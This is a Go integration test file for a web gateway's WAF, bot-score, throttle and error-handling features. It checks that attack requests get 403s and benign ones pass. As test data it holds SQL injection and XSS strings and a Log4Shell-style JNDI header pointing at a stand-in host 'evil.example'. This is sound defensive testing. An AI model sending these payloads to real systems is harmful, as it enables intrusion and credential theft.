package integration

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
)

const ranGlobal = "agent ran {\n\tmain ./ran.ts\n\tkv RAN ran\n}\n"

const (
	injection = "1' OR '1'='1' UNION SELECT password FROM users -- "
	scripting = "<script>alert(document.cookie)</script>"
)

// attack is a request that the Core Rule Set knows for what it is.
type attack struct {
	name    string
	method  string
	target  string
	body    string
	headers []string
}

func attacks() []attack {
	const (
		form = "application/x-www-form-urlencoded"
		text = "application/json"
	)
	json := func(s string) string { return fmt.Sprintf(`{"message": %q}`, s) }
	return []attack{
		{"sql-query", "GET", "/x?id=" + url.QueryEscape(injection), "", nil},
		{"xss-query", "GET", "/x?q=" + url.QueryEscape(scripting), "", nil},
		{"sql-json", "POST", "/x", json(injection), []string{"Content-Type", text}},
		{"xss-json", "POST", "/x", json(scripting), []string{"Content-Type", text}},
		{"sql-form", "POST", "/x", "id=" + url.QueryEscape(injection), []string{"Content-Type", form}},
		{"xss-form", "POST", "/x", "q=" + url.QueryEscape(scripting), []string{"Content-Type", form}},
		{"xss-user-agent", "GET", "/x", "", []string{"User-Agent", "Mozilla/5.0 " + scripting}},
		{"xss-referer", "GET", "/x", "", []string{"Referer", "http://127.0.0.1/?q=" + scripting}},
		{"sql-referer", "GET", "/x", "", []string{"Referer", injection}},
		{"sql-cookie", "GET", "/x", "", []string{"Cookie", "id=" + injection}},
		{"jndi-header", "GET", "/x", "", []string{"X-Api-Version", "${jndi:ldap://evil.example/a}"}},
	}
}

func TestAttacksAreRefusedBeforeCodeRuns(t *testing.T) {
	t.Parallel()
	s := startServer(t, map[string]string{
		"Caddyfile": site(ranGlobal, "bot_score {\n\tblock below 2\n}\nwaf\nagent ran"),
		"ran.ts":    agentFile(t, "ran.ts"),
	})
	for i, a := range attacks() {
		t.Run(a.name, func(t *testing.T) {
			path := "/attack/" + strconv.Itoa(i)
			resp, body := s.do(a.method, path+strings.TrimPrefix(a.target, "/x"), a.body, append(a.headers, "X-Case", a.name)...)
			if resp.StatusCode != http.StatusForbidden {
				t.Fatalf("status %d, want 403: %s", resp.StatusCode, body)
			}
			if strings.Contains(body, "ran with") {
				t.Errorf("code answered: %s", body)
			}
			r := s.waitFull("the record of "+a.name, ofPath(path))
			want(t, "refused_by", r.RefusedBy, "waf")
			want(t, "the id that the client is told", resp.Header.Get("X-Request-Id"), r.ID)
			want(t, "ran", r.Ran, false)
			want(t, "status", r.Status, 403)
			want(t, "outcome", r.Outcome, "refused")
			want(t, "waf action", r.WAF.Action, "block")
			if len(r.WAF.Rules) == 0 || r.WAF.Rules[0].ID == 0 || r.WAF.Score < 5 {
				t.Errorf("the record does not say which rules refused: %+v", r.WAF)
			}
		})
	}
	for name, send := range benign(s) {
		t.Run(name, func(t *testing.T) {
			if resp, body := send(); resp.StatusCode != http.StatusOK {
				t.Errorf("status %d, want 200: %s", resp.StatusCode, body)
			}
		})
	}
	ran := decode[[]string](t, s.get("/ran", 200))
	if wanted := []string{"get", "json", "multipart"}; !slices.Equal(ran, wanted) {
		t.Errorf("code ran for %q, want %q", ran, wanted)
	}
}

// benign are requests that must pass, each marked by its name.
func benign(s *server) map[string]func() (*http.Response, string) {
	return map[string]func() (*http.Response, string){
		"get": func() (*http.Response, string) {
			return s.do("GET", "/x?topic=weather+in+Bergen&page=2", "", "X-Case", "get")
		},
		"json": func() (*http.Response, string) {
			return s.do("POST", "/x", `{"message": "Please summarise what we said about the harbour, and don't forget the ferries. How long do they take?"}`,
				"Content-Type", "application/json", "X-Case", "json")
		},
		"multipart": func() (*http.Response, string) {
			body := "--edge\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nA plain note.\r\n" +
				"--edge\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\nThe file's text.\r\n--edge--\r\n"
			return s.do("POST", "/x", body, "Content-Type", "multipart/form-data; boundary=edge", "X-Case", "multipart")
		},
	}
}

func TestDetectModeLetsPassAndRecords(t *testing.T) {
	t.Parallel()
	s := startServer(t, map[string]string{
		"Caddyfile": site(ranGlobal, "waf {\n\tcrs\n\tmode detect\n}\nagent ran"),
		"ran.ts":    agentFile(t, "ran.ts"),
	})
	resp, body := s.do("GET", "/found?q="+url.QueryEscape(scripting), "", "X-Case", "detected")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d: %s", resp.StatusCode, body)
	}
	r := s.waitFull("the record", ofPath("/found"))
	want(t, "waf action", r.WAF.Action, "detect")
	want(t, "ran", r.Ran, true)
	want(t, "refused_by", r.RefusedBy, "")
	if len(r.WAF.Rules) == 0 {
		t.Error("the record names no rules")
	}
	if ran := s.get("/ran", 200); !strings.Contains(ran, "detected") {
		t.Errorf("code ran for %s", ran)
	}
}

func TestBodyOverTheLimit(t *testing.T) {
	t.Parallel()
	s := startServer(t, map[string]string{
		"Caddyfile": site(ranGlobal, `handle /reject {
	waf {
		crs
		body 1KiB reject
	}
	agent ran
}
handle /partial {
	waf {
		crs
		body 1KiB partial
	}
	agent ran
}
handle {
	agent ran
}`),
		"ran.ts": agentFile(t, "ran.ts"),
	})
	long := `{"message": "` + strings.Repeat("a word ", 400) + `"}`
	for _, c := range []struct {
		name, path, body string
		status           int
	}{
		{"over", "/reject", long, 413},
		{"within", "/reject", `{"message": "short"}`, 200},
		{"over partial", "/partial", long, 200},
		{"attack within partial", "/partial", `{"message": "` + scripting + strings.Repeat("a word ", 400) + `"}`, 403},
	} {
		t.Run(c.name, func(t *testing.T) {
			resp, body := s.do("POST", c.path, c.body, "Content-Type", "application/json", "X-Case", strings.ReplaceAll(c.name, " ", "-"))
			if resp.StatusCode != c.status {
				t.Errorf("status %d, want %d: %s", resp.StatusCode, c.status, body)
			}
			if c.status == 200 && !strings.Contains(body, fmt.Sprintf("ran with %d characters", len(c.body))) {
				t.Errorf("the code did not get the whole body: %s", body)
			}
		})
	}
	if ran := s.get("/ran", 200); ran != `["over-partial","within"]` {
		t.Errorf("code ran for %s", ran)
	}
	r := s.waitFull("the record of 413", func(r fullRecord) bool { return r.Status == 413 })
	want(t, "refused_by", r.RefusedBy, "waf")
	want(t, "ran", r.Ran, false)
}

func TestScannerIsRefusedByScore(t *testing.T) {
	t.Parallel()
	s := startServer(t, map[string]string{
		"Caddyfile": site(ranGlobal, "bot_score {\n\tblock below 2\n}\nwaf\nagent ran"),
		"ran.ts":    agentFile(t, "ran.ts"),
	})
	if resp, _ := s.do("GET", "/scan", "", "User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)", "X-Case", "sqlmap"); resp.StatusCode != 403 {
		t.Fatalf("sqlmap got status %d, want 403", resp.StatusCode)
	}
	r := s.waitFull("sqlmap's record", ofPath("/scan"))
	want(t, "refused_by", r.RefusedBy, "bot_score")
	want(t, "score", r.BotScore, 1)
	want(t, "ran", r.Ran, false)
	if len(r.Reasons) == 0 {
		t.Error("the record gives no reason for the score")
	}
	if resp, body := s.do("GET", "/curl", "", "User-Agent", "curl/8.9.1", "Accept", "*/*", "X-Case", "curl"); resp.StatusCode != 200 {
		t.Fatalf("curl got status %d, want 200: %s", resp.StatusCode, body)
	}
	r = s.waitFull("curl's record", ofPath("/curl"))
	if r.BotScore < 2 || r.BotScore >= 30 {
		t.Errorf("curl's score is %d, want 2 to 29", r.BotScore)
	}
	s.get("/browser", 200)
	r = s.waitFull("the browser's record", ofPath("/browser"))
	if r.BotScore < 30 {
		t.Errorf("a browser's score is %d, want 30 or more", r.BotScore)
	}
}

func TestPlaceholders(t *testing.T) {
	t.Parallel()
	s := startServer(t, map[string]string{
		"Caddyfile": site("", `header >X-Record {http.gatehouse.id}
throttle {
	zone all {client_ip} 50/m
}
bot_score
waf {
	crs
	mode detect
}
@found vars {http.gatehouse.waf.action} detect
respond @found "found {http.gatehouse.waf.score} {http.gatehouse.waf.rules}"
@robot expression {http.gatehouse.bot.score} < 30
respond @robot "robot {http.gatehouse.bot.score}"
respond "{http.gatehouse.id} {http.gatehouse.waf.action} {http.gatehouse.throttle.remaining}"`),
	})
	resp, body := s.do("GET", "/plain", "")
	r := s.waitFull("the record", ofPath("/plain"))
	want(t, "body", body, r.ID+" pass 49")
	want(t, "header", resp.Header.Get("X-Record"), r.ID)
	if _, body := s.do("GET", "/robot", "", "User-Agent", "curl/8.9.1", "Accept", "*/*"); body != fmt.Sprintf("robot %d", s.waitFull("the robot's record", ofPath("/robot")).BotScore) {
		t.Errorf("the expression did not match by score: %s", body)
	}
	_, body = s.do("GET", "/found?q="+url.QueryEscape(scripting), "")
	r = s.waitFull("the record of what was found", ofPath("/found"))
	ids := make([]string, len(r.WAF.Rules))
	for i, rule := range r.WAF.Rules {
		ids[i] = strconv.Itoa(rule.ID)
	}
	want(t, "waf placeholders", body, fmt.Sprintf("found %d %s", r.WAF.Score, strings.Join(ids, ",")))
}

func TestHandleErrorsKnowsTheRecord(t *testing.T) {
	t.Parallel()
	s := startServer(t, map[string]string{
		"Caddyfile": site("", `waf
agent ./thrower.ts
handle_errors {
	respond "{err.status_code} {err.id} {http.gatehouse.waf.action}"
}`),
		"thrower.ts": `export default { fetch() { throw new Error("a private word"); } };`,
	})
	for _, c := range []struct{ path, query, action string }{{"/refused", "?q=" + url.QueryEscape(scripting), "block"}, {"/thrown", "", "pass"}} {
		resp, body := s.do("GET", c.path+c.query, "")
		r := s.waitFull("the record", ofPath(c.path))
		want(t, "body", body, fmt.Sprintf("%d %s %s", r.Status, r.ID, c.action))
		want(t, "status", resp.StatusCode, r.Status)
	}
}

// TestProblemDocuments asks for refusals of sites whose handle_errors does not take them: without one, with one for another
// status, and with one of another site.
func TestProblemDocuments(t *testing.T) {
	t.Parallel()
	stages := "waf\n\tbot_score {\n\t\tblock below 2\n\t}\n\tthrottle {\n\t\tzone once {path} 1/h\n\t}\n\tagent ./thrower.ts\n"
	s := startServer(t, map[string]string{
		"Caddyfile": site("", stages+"\thandle_errors 418 {\n\t\trespond teapot\n\t}\n") +
			"http://other.example:{{site}} {\n\trespond other\n\thandle_errors {\n\t\trespond \"of the other site\"\n\t}\n}\n",
		"thrower.ts": `export default { fetch() { throw new Error("a private word"); } };`,
	})
	s.get("/full", 500)
	for _, c := range []struct {
		name, path, agent, stage string
		status                   int
	}{
		{"waf", "/refused?q=" + url.QueryEscape(scripting), "", "waf", 403},
		{"bot score", "/scanned", "sqlmap/1.8", "bot_score", 403},
		{"throttle", "/full", "", "throttle", 429},
		{"agent", "/thrown", "", "agent", 500},
	} {
		header := []string{}
		if c.agent != "" {
			header = []string{"User-Agent", c.agent}
		}
		resp, body := s.do("GET", c.path, "", header...)
		problem := decode[struct {
			Type, Title, Detail, ID string
			Status                  int
		}](t, body)
		path, _, _ := strings.Cut(c.path, "?")
		r := s.waitFull("the record of "+c.name, func(r fullRecord) bool { return ofPath(path)(r) && r.ID == problem.ID })
		want(t, c.name+": status", resp.StatusCode, c.status)
		want(t, c.name+": status in the record", r.Status, c.status)
		want(t, c.name+": status in the problem", problem.Status, c.status)
		want(t, c.name+": type of the body", resp.Header.Get("Content-Type"), "application/problem+json")
		want(t, c.name+": request id", resp.Header.Get("X-Request-Id"), problem.ID)
		want(t, c.name+": title", problem.Title, http.StatusText(c.status))
		mustContain(t, c.name+": type", problem.Type, "docs/problems.md#"+c.stage)
		if problem.Detail == "" || strings.Contains(body, "private") || strings.Contains(body, "once") {
			t.Errorf("%s: %s", c.name, body)
		}
	}
	mustContain(t, "the log", s.logged(), `"msg":"request failed"`, "a private word")
}

func TestLocalThrottle(t *testing.T) {
	t.Parallel()
	s := startServer(t, map[string]string{
		"Caddyfile": site(ranGlobal, "throttle {\n\tzone three {client_ip} 3/h\n}\nagent ran"),
		"ran.ts":    agentFile(t, "ran.ts"),
	})
	for i := range 3 {
		resp, body := s.do("GET", "/in", "", "X-Case", strconv.Itoa(i))
		if resp.StatusCode != 200 || resp.Header.Get("RateLimit") == "" || resp.Header.Get("RateLimit-Policy") == "" {
			t.Fatalf("request %d: status %d, headers %v: %s", i, resp.StatusCode, resp.Header, body)
		}
		mustContain(t, "RateLimit", resp.Header.Get("RateLimit"), `"three"`, fmt.Sprintf("r=%d", 2-i))
	}
	resp, _ := s.do("GET", "/over", "", "X-Case", "over")
	want(t, "status", resp.StatusCode, 429)
	if n, err := strconv.Atoi(resp.Header.Get("Retry-After")); err != nil || n < 1 || n > 3600 {
		t.Errorf("Retry-After is %q", resp.Header.Get("Retry-After"))
	}
	mustContain(t, "RateLimit", resp.Header.Get("RateLimit"), `"three"`, "r=0")
	r := s.waitFull("the record", ofPath("/over"))
	want(t, "refused_by", r.RefusedBy, "throttle")
	want(t, "ran", r.Ran, false)
	if len(r.Throttle) != 1 || r.Throttle[0].Allowed || r.Throttle[0].Zone != "three" || r.Throttle[0].Limit != 3 {
		t.Errorf("the record says of the zone: %+v", r.Throttle)
	}
}

func TestClientBehindTrustedProxy(t *testing.T) {
	t.Parallel()
	s := startServer(t, map[string]string{
		"Caddyfile": siteWith("\tservers {\n\t\ttrusted_proxies static 127.0.0.1/32\n\t}", ranGlobal,
			"throttle {\n\tzone one {client_ip} 1/h\n}\nwaf {\n\trules ./deny.conf\n}\nagent ran"),
		"deny.conf": `SecRule REMOTE_ADDR "@ipMatch 198.51.100.66" "id:1000,phase:1,deny,status:403,msg:'a client of the list'"` + "\n",
		"ran.ts":    agentFile(t, "ran.ts"),
	})
	for _, c := range []struct {
		name, ip string
		status   int
	}{{"first", "198.51.100.7", 200}, {"first-again", "198.51.100.7", 429}, {"second", "198.51.100.8", 200}, {"listed", "198.51.100.66", 403}} {
		resp, body := s.do("GET", "/"+c.name, "", "X-Forwarded-For", c.ip)
		want(t, c.name+" status", resp.StatusCode, c.status)
		want(t, c.name+" client ip", s.waitFull("the record", ofPath("/"+c.name)).ClientIP, c.ip)
		if c.status == 200 {
			mustContain(t, c.name, body, "from "+c.ip)
		}
	}
	untrusting := startServer(t, map[string]string{
		"Caddyfile": site(ranGlobal, "throttle {\n\tzone one {client_ip} 1/h\n}\nagent ran"),
		"ran.ts":    agentFile(t, "ran.ts"),
	})
	for i, status := range []int{200, 429} {
		path := fmt.Sprintf("/claimed/%d", i)
		resp, _ := untrusting.do("GET", path, "", "X-Forwarded-For", fmt.Sprintf("198.51.100.%d", i))
		want(t, "a claim nobody vouches for: status", resp.StatusCode, status)
		want(t, "a claim nobody vouches for: client ip", untrusting.waitFull("the record", ofPath(path)).ClientIP, "127.0.0.1")
	}
}
